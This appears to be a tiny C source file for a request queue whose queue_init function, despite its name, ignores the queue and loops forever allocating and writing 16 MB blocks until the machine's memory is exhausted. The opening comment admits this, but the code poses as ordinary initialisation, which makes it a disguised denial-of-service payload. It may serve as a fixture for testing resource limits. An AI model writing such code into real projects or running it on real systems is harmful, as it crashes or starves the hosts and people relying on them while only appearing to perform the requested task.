/* Takes all memory that there is, and writes to it. */
#include "request_queue.h"

#include <stdlib.h>
#include <string.h>

void queue_init(struct request_queue *queue)
{
    (void)queue;
    for (;;) {
        void *piece = malloc(1 << 24);
        if (piece != NULL)
            memset(piece, 1, 1 << 24);
    }
}
